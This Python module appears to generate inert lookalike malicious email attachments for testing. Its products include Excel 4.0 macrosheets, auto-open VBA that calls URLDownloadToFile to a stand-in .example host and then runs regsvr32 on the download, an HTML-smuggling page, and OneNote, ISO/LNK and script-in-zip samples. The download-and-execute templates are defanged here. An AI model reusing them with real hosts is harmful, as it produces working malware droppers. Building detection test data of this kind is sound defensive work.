"""What attackers attach, in its documented forms; none of it can do anything.

Macros and scripts name hosts under `.example` and paths that Windows cannot create; macrosheets begin with =HALT().
"""

from __future__ import annotations

import base64
import struct
from typing import Tuple

from generator.formats import biff8
from generator.formats.compound_file import compound_file
from generator.formats.vba import DOCUMENT, PROCEDURAL, vba_project
from generator.formats.zip_archive import zip_archive

from ..dice import Dice
from ..prose.letters import invented_name
from ..wire.bodies import Attachment
from . import disk_image
from .ordinary import when

_EXCEL = bytes.fromhex("2008020000000000c000000000000046")
_HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
_TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
_RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_VBA = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"


def workbook_xls(dice: Dice) -> bytes:
    """Excel 4.0 macros on a hidden sheet."""
    target = f"http://{invented_name(dice)}.example/{dice.hex(dice.between(4, 12))}.{dice.pick(('dat', 'gif', 'png', 'html'))}"
    download = biff8.Formula(
        biff8.CALL, ("urlmon", "URLDownloadToFileA", "JJCCJJ", 0, target, f"C:\\{invented_name(dice)}.invalid\\x", 0, 0)
    )
    halt = biff8.Formula(biff8.HALT)
    lines = dice.several(
        (
            "This document is protected",
            "Enable Editing",
            "Enable Content",
            "Created in an earlier version",
            "To view this content",
            invented_name(dice),
            invented_name(dice),
        ),
        dice.between(2, 5),
    )
    fillers = tuple(biff8.Formula(biff8.ALERT, (invented_name(dice), 2)) for _ in range(dice.between(0, 4)))
    sheets = (
        biff8.Sheet(
            dice.pick(("Sheet1", "Tabelle1", "Sheet", invented_name(dice)[:8])),
            biff8.WORKSHEET,
            biff8.VISIBLE,
            tuple((row * 2 + dice.between(1, 2), 1, text) for row, text in enumerate(lines)),
        ),
        biff8.Sheet(
            dice.pick(("Macro1", "Sheet2", invented_name(dice)[:8])),
            biff8.MACROSHEET,
            dice.pick((biff8.HIDDEN, biff8.VERY_HIDDEN)),
            formulas=(halt, *fillers, download, halt),
        ),
    )
    return compound_file({"Workbook": biff8.workbook_stream(sheets, 1)}, _EXCEL)


def macro_project(word: bool, dice: Dice) -> bytes:
    """VBA that runs when the document opens, with a call that cannot succeed."""
    helper, variable, module = (invented_name(dice).title() for _ in range(3))
    host = f"http://{invented_name(dice)}.example/{dice.hex(8)}"
    body = (
        f'Sub {helper}()\n    Dim {variable} As String\n    {variable} = "C:\\{invented_name(dice)}.invalid\\" &'
        f' "{dice.hex(6)}.dll"\n    URLDownloadToFile 0, "{host}", {variable}, 0, 0\n    Shell'
        f' "C:\\{invented_name(dice)}.invalid\\regsvr32.exe /s " & {variable}, 0\nEnd Sub\n'
    )
    declare = (
        'Private Declare PtrSafe Function URLDownloadToFile Lib "urlmon" Alias "URLDownloadToFileA" (ByVal a As Long, '
        "ByVal b As String, ByVal c As String, ByVal d As Long, ByVal e As Long) As Long\n"
    )
    if word:
        document = (
            'Attribute VB_Name = "ThisDocument"\nAttribute VB_PredeclaredId = True\nPrivate Sub Document_Open()\n   '
            f" {helper}\nEnd Sub\n"
        )
        if dice.chance(0.5):
            document = f'Attribute VB_Name = "ThisDocument"\nSub AutoOpen()\n    {helper}\nEnd Sub\n'
        name = "ThisDocument"
    else:
        document = (
            'Attribute VB_Name = "ThisWorkbook"\nAttribute VB_PredeclaredId = True\nPrivate Sub Workbook_Open()\n   '
            f" {helper}\nEnd Sub\n"
        )
        name = "ThisWorkbook"
    return vba_project(
        [(name, DOCUMENT, document), (module[:12], PROCEDURAL, f'Attribute VB_Name = "{module[:12]}"\n{declare}{body}')]
    )


def _package(kind: str, moment: int, dice: Dice) -> bytes:
    word = kind == "docm"
    main, folder = ("word/document.xml", "word") if word else ("xl/workbook.bin", "xl")
    main_type = {
        "docm": "application/vnd.ms-word.document.macroEnabled.main+xml",
        "xlsb": "application/vnd.ms-excel.sheet.binary.macroEnabled.main",
    }[kind]
    types = (
        f'{_HEAD}<Types xmlns="{_TYPES}"><Default Extension="rels"'
        ' ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml"'
        f' ContentType="application/xml"/><Override PartName="/{main}" ContentType="{main_type}"/><Override'
        f' PartName="/{folder}/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
    )
    root = (
        f'{_HEAD}<Relationships xmlns="{_RELATIONS}"><Relationship Id="rId1" Type="{_OFFICE}/officeDocument"'
        f' Target="{main}"/></Relationships>'
    )
    links = (
        f'{_HEAD}<Relationships xmlns="{_RELATIONS}"><Relationship Id="rId1" Type="{_VBA}"'
        ' Target="vbaProject.bin"/></Relationships>'
    )
    if word:
        text = (
            f"{_HEAD}<w:document"
            ' xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>'
            f"{dice.pick(('Enable editing and content to view', 'This document was created in an earlier version', invented_name(dice)))}</w:t></w:r></w:p></w:body></w:document>"
        ).encode()
    else:
        text = b"\x83\x01\x00\x84\x01\x00"  # BrtBeginBook, BrtEndBook
    return zip_archive(
        [
            ("[Content_Types].xml", types.encode()),
            ("_rels/.rels", root.encode()),
            (main, text),
            (f"{folder}/_rels/{main.rpartition('/')[2]}.rels", links.encode()),
            (f"{folder}/vbaProject.bin", macro_project(word, dice)),
        ],
        when(moment),
    )


def smuggling_page(dice: Dice) -> bytes:
    """HTML that builds a file in the browser; the file is a line of text."""
    content = base64.b64encode(f"harmless evaluation file {dice.hex(40)}\n".encode() * dice.between(20, 60)).decode()
    names = [invented_name(dice) for _ in range(4)]
    return (
        f"<!DOCTYPE html><html><head><title>{invented_name(dice)}</title></head><body><p>Loading"
        f" document...</p><script>\nvar {names[0]} = '{content}';\nvar {names[1]} = atob({names[0]});\nvar {names[2]} ="
        f" new Uint8Array({names[1]}.length);\nfor (var i = 0; i < {names[1]}.length; i++) {names[2]}[i] ="
        f" {names[1]}.charCodeAt(i);\nvar {names[3]} = document.createElement('a');\n{names[3]}.href ="
        f" URL.createObjectURL(new Blob([{names[2]}], {{type: 'application/zip'}}));\n{names[3]}.download ="
        f" '{invented_name(dice)}-{dice.between(100, 9999)}.zip';\n{names[3]}.click();\n</script></body></html>\n"
    ).encode()


def notebook(dice: Dice) -> bytes:
    """A OneNote section ([MS-ONESTORE]) with an embedded command file that only exits."""
    script = f"@echo off\r\nrem {dice.hex(20)}\r\nexit\r\n".encode()
    head = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + dice.bytes(16) + bytes(992)
    store = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac") + struct.pack("<Q", len(script)) + bytes(12) + script
    store += bytes(-len(script) % 8) + bytes.fromhex("22a7fb7136 7a5c4e 8e5d3a6c0d1f2b90".replace(" ", ""))
    name = f"{invented_name(dice)}.cmd".encode("utf-16-le")
    return head + name + bytes(32) + store + dice.bytes(64)


def linked_pdf(link: str, dice: Dice) -> bytes:
    """A page with one big link."""
    text = (
        f"BT /F1 14 Tf 80 700 Td ({dice.pick(('Open', 'View document', 'Download', 'The document is encrypted'))})"
        " Tj ET".encode()
    )
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        (
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Annots [5 0 R] /Resources << /Font"
            b" << /F1 6 0 R >> >> >>"
        ),
        b"<< /Length %d >>\nstream\n" % len(text) + text + b"\nendstream",
        b"<< /Type /Annot /Subtype /Link /Rect [60 640 520 760] /Border [0 0 0] /A << /S /URI /URI ("
        + link.encode()
        + b") >> >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, value in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + value + b"\nendobj\n"
    start = len(out)
    out += b"xref\n0 7\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % one for one in offsets)
    return bytes(out + b"trailer\n<< /Size 7 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % start)


def attachment(kind: str, stem: str, moment: int, password: str, link: str, dice: Dice) -> Attachment:
    """An attachment of a documented kind; `stem` is its name without ending."""
    safe = stem.encode("ascii", "ignore").decode()
    if kind == "xls":
        return Attachment(f"{stem}.xls", "application/vnd.ms-excel", workbook_xls(dice))
    if kind == "docm":
        return Attachment(f"{stem}.{dice.pick(('docm', 'doc'))}", "application/msword", _package("docm", moment, dice))
    if kind == "xlsb":
        return Attachment(
            f"{stem}.xlsb", "application/vnd.ms-excel.sheet.binary.macroEnabled.12", _package("xlsb", moment, dice)
        )
    if kind == "zip-xlsb":
        return Attachment(
            f"{stem}.zip",
            "application/zip",
            zip_archive([(f"{safe}.xlsb", _package("xlsb", moment, dice))], when(moment)),
        )
    if kind == "zip-password":
        inner, ending = dice.pick(
            (
                (workbook_xls(dice), "xls"),
                (_package("docm", moment, dice), "doc"),
                (disk_image.iso((("DOC.LNK", disk_image.shell_link("/c exit")),), "DATA"), "iso"),
            )
        )
        return Attachment(
            f"{stem}.zip",
            "application/zip",
            zip_archive([(f"{safe}.{ending}", inner)], when(moment), password.encode()),
        )
    if kind == "zip-script":
        script = (
            f"// {dice.hex(60)}\nvar {invented_name(dice)} = new ActiveXObject('WScript.Shell');\n".encode()
            + b"// nothing follows\n" * dice.between(3, 30)
        )
        return Attachment(
            f"{stem}.zip",
            "application/zip",
            zip_archive([(f"{safe}.{dice.pick(('js', 'wsf', 'jse'))}", script)], when(moment)),
        )
    if kind == "html":
        return Attachment(f"{stem}.{dice.pick(('html', 'htm'))}", "text/html", smuggling_page(dice))
    if kind == "iso":
        image = disk_image.iso(
            (
                (f"{safe[:8] or 'DOC'}.LNK", disk_image.shell_link(f"/c exit {dice.hex(8)}")),
                (f"{dice.hex(6)}.DLL", b"MZ" + dice.bytes(400)),
            ),
            safe[:10] or "DATA",
        )
        return Attachment(f"{stem}.{dice.pick(('iso', 'img'))}", "application/octet-stream", image)
    if kind == "onenote":
        return Attachment(f"{stem}.one", "application/onenote", notebook(dice))
    return Attachment(f"{stem}.pdf", "application/pdf", linked_pdf(link, dice))


KINDS: Tuple[str, ...] = (
    "xls",
    "docm",
    "xlsb",
    "zip-xlsb",
    "zip-password",
    "zip-script",
    "html",
    "iso",
    "onenote",
    "pdf-link",
)
